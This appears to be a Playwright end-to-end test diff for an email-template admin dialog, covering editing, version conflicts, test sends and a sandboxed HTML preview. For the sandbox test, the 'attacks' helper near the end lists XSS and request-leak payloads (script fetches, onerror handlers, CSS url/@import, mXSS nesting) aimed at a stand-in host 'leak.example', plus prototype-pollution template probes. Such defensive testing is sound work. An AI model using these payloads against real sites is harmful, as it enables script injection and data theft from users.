@@ -1,0 +1,137 @@
+import type { Page } from '@playwright/test';
+import { expect, expectAccessible, test } from './fixtures.ts';
+
+async function openTemplates(admin: Page, tab: 'system' | 'users') {
+  await admin.goto(`/admin-tools#${tab}`);
+  if (tab === 'system') {
+    const information = admin.getByRole('region', { name: 'System Information' });
+    await information.getByRole('button', { name: 'Email Templates' }).click();
+  } else {
+    await admin.getByRole('button', { name: 'More', exact: true }).click();
+    await admin.getByRole('menuitem', { name: 'Email templates' }).click();
+  }
+  const dialog = admin.getByRole('dialog', { name: 'Email Template Management' });
+  await dialog.getByRole('button', { name: /^Test email/ }).click();
+  return { dialog, paper: dialog.frameLocator('iframe[title="Preview of the mail"]') };
+}
+
+test('administrators change what a mail says, send it and find it in the outbox', async ({
+  person,
+}) => {
+  const admin = await person('admin');
+  const { dialog, paper } = await openTemplates(admin, 'system');
+  await expect(paper.getByText('Open Forecourt')).toBeVisible();
+
+  const text = dialog.getByRole('textbox', { name: 'Plain text' });
+  await text.fill('Good day, ');
+  await dialog.getByRole('button', { name: 'firstName' }).click();
+  await expect(text).toHaveValue('Good day, {{firstName}}');
+  await expect(text).toBeFocused();
+  await dialog.getByRole('tab', { name: 'Plain text' }).click();
+  await expect(dialog.getByText('Good day, Dana', { exact: true })).toBeVisible();
+  // While no frame is shown: where nothing may run, nothing can be examined either.
+  await expectAccessible(admin);
+  await dialog.getByRole('button', { name: 'Save template' }).click();
+  await expect(admin.getByText('Template saved', { exact: true })).toBeVisible();
+
+  // Somebody else saves meanwhile: nothing of theirs is written over unseen.
+  const theirs = { subject: 'Theirs', htmlTemplate: 'x', textTemplate: 'x', active: true };
+  expect((await admin.request.put('/api/email-templates/test', { data: theirs })).ok()).toBe(true);
+  await dialog.getByRole('textbox', { name: 'Subject' }).fill('Mine');
+  await dialog.getByRole('button', { name: 'Save template' }).click();
+  await expect(dialog.getByText(/has changed this template meanwhile/)).toBeVisible();
+  await dialog.getByRole('button', { name: 'Keep mine' }).click();
+  await dialog.getByRole('button', { name: 'Save template' }).click();
+  await dialog.getByRole('tab', { name: 'Versions' }).click();
+  await expect(dialog.getByRole('listitem').filter({ hasText: 'Mine' })).toContainText('Current');
+  await expect(dialog.getByRole('listitem').filter({ hasText: 'Theirs' })).toBeVisible();
+
+  await dialog.getByRole('button', { name: 'Send a test' }).click();
+  const testing = admin.getByRole('dialog', { name: 'Send Test Email' });
+  await testing.getByRole('textbox', { name: 'Email' }).fill('nobody');
+  await testing.getByRole('button', { name: 'Send Test Email' }).click();
+  await expect(
+    admin.getByText('Please enter a valid email address', { exact: true }),
+  ).toBeVisible();
+  await testing.getByRole('textbox', { name: 'Email' }).fill('story@example.com');
+  await testing.getByRole('button', { name: 'Send Test Email' }).click();
+  await expect(testing.getByText(/kept as a file, outbox\/[\w-]+\.eml/)).toBeVisible();
+  await testing.getByRole('button', { name: 'Close' }).first().click();
+
+  await dialog.getByRole('button', { name: 'Restore' }).last().click();
+  await expect(admin.getByText('Version restored', { exact: true })).toBeVisible();
+  await expect(text).toHaveValue(/to see whether mail arrives/);
+  await dialog.getByRole('button', { name: 'Close' }).first().click();
+
+  const card = admin.getByRole('region', { name: 'Mail', exact: true });
+  await card.getByRole('button', { name: 'Open outbox' }).click();
+  const outbox = admin.getByRole('dialog', { name: 'Mail' });
+  await outbox.getByRole('button', { name: /story@example\.com/ }).click();
+  await expect(outbox.getByText(/^Sent on/)).toBeVisible();
+  await outbox.getByRole('tab', { name: 'Plain text' }).click();
+  await expect(outbox.getByText(/^Good day, \w+/)).toBeVisible();
+  await expectAccessible(admin);
+});
+
+test('nothing in a mail runs, loads or leads anywhere while it is previewed', async ({
+  person,
+}) => {
+  const admin = await person('admin');
+  const { dialog, paper } = await openTemplates(admin, 'users');
+  let dialogs = 0;
+  const leaks: string[] = [];
+  admin.on('dialog', (box) => {
+    dialogs++;
+    void box.dismiss();
+  });
+  admin.on('request', (request) => {
+    if (/leak/.test(request.url())) leaks.push(request.url());
+  });
+
+  const html = dialog.getByRole('textbox', { name: 'HTML' });
+  await html.fill(`${attacks('https://leak.example') + attacks('/leak')}<p>First mark</p>`);
+  await expect(paper.getByText('First mark')).toBeVisible();
+  // Where it would lead is said, and that is all.
+  await paper.getByText('a click').first().click();
+  await paper.getByText('a click').last().click();
+  await expect(paper.getByText('in red').first()).toHaveCSS('color', 'rgb(255, 0, 0)');
+  await html.fill('<p>Second mark</p>');
+  await expect(paper.getByText('Second mark')).toBeVisible();
+
+  for (const wrong of ['{{constructor}}', '{{#constructor}}x{{/constructor}}', '{{__proto__}}']) {
+    await html.fill(wrong);
+    const name = wrong.includes('proto') ? '__proto__' : 'constructor';
+    await expect(dialog.getByText(`Line 1: {{${name}}} is not a variable`)).toBeVisible();
+    await expect(paper.getByText('Second mark')).toBeVisible();
+  }
+  expect([dialogs, leaks]).toEqual([0, []]);
+  await expect(admin).toHaveURL(/admin-tools#users$/);
+  await expect(dialog.locator('iframe')).toHaveAttribute('sandbox', '');
+  expect(await admin.evaluate(() => 'leaked' in window)).toBe(false);
+  // What is counted here is counted: the page itself may ask.
+  await admin.evaluate(() => fetch('/leak').catch(() => {}));
+  await expect.poll(() => leaks.length).toBe(1);
+  await dialog.getByRole('button', { name: 'Close' }).first().click();
+  await admin.getByRole('button', { name: 'Discard' }).click();
+  await expect(dialog).toBeHidden();
+});
+
+/** Ways to run something or to make a browser ask for it. */
+const attacks = (to: string) => `
+<script>parent.leaked = 1; alert(1); fetch('${to}/1')</script>
+<script src="${to}/2"></script><link rel="stylesheet" href="${to}/3"><base href="${to}/">
+<meta http-equiv="refresh" content="0;url=${to}/4">
+<style>@import "${to}/5"; body { background: url(${to}/6) } @font-face { font-family: x; src: url(${to}/7) } p { font-family: x }</style>
+<img src="${to}/8" onerror="alert(1)" alt="A car"><img srcset="${to}/9 1x">
+<p style="background-image: url('${to}/10'); color: rgb(255, 0, 0)" onclick="alert(1)">in red</p>
+<svg onload="alert(1)"><image href="${to}/11"/><script>alert(1)</script></svg>
+<iframe src="${to}/12"></iframe><object data="${to}/13"></object><embed src="${to}/14">
+<video src="${to}/15" poster="${to}/16" autoplay></video><audio src="${to}/17" autoplay></audio>
+<form action="${to}/18"><button autofocus onfocus="alert(1)">Send</button><input type="image" src="${to}/19"></form>
+<a href="${to}/20" ping="${to}/21" target="_top">a click</a><a href="javascript:alert(1)">a click</a>
+<table background="${to}/22"><tr><td background="${to}/23">x</td></tr></table>
+<math><mtext><style><img src="${to}/24" onerror="alert(1)"></style></mtext></math>
+<noscript><p title="</noscript><img src=${to}/25 onerror=alert(1)>"></noscript>
+<div style="color: red; background: u\\72l(${to}/26); list-style: image-set('${to}/27' 1x)">x</div>
+<style></style><img src="${to}/28"></style><input autofocus onfocus="alert(1)"><details open ontoggle="alert(1)">x</details>
+`;
